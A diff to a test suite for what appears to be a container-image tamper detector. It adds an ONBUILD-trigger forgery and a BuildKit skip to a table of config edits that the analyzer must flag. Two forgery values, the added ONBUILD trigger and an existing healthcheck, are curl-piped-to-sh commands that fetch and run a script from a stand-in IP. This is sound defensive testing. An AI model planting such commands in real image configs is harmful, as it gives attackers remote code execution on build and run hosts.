@@ -144,6 +144,7 @@ FORGERIES = {
     "port-added": (_port_add, "ExposedPorts", "high"),
     "volume-dropped": (_volume_drop, "Volumes", "high"),
     "stopsignal": (_set("StopSignal", "SIGKILL"), "StopSignal", "high"),
+    "onbuild-trigger": (_set("OnBuild", ["RUN curl -s http://203.0.113.9/o | sh"]), "OnBuild", "high"),
     "healthcheck-added-or-changed": (_set("Healthcheck", {"Test": ["CMD-SHELL", "curl -s http://203.0.113.9/b|sh"]}),
                                      "Healthcheck", "high"),
 }
@@ -179,6 +180,8 @@ def test_config_forgeries_are_reported(sample, forgery, tmp_path):
     edit, key, severity = FORGERIES[forgery]
     if key == "Labels" and "buildkit" in sample.name:
         severity = "low"  # BuildKit's --label leaves no history entry
+    if key == "OnBuild" and "buildkit" in sample.name:
+        pytest.skip("BuildKit records no ONBUILD step: its triggers cannot be held to the history")
     out = tmp_path / sample.name
     forge(sample, out, edit)
     r = analyzed(out)
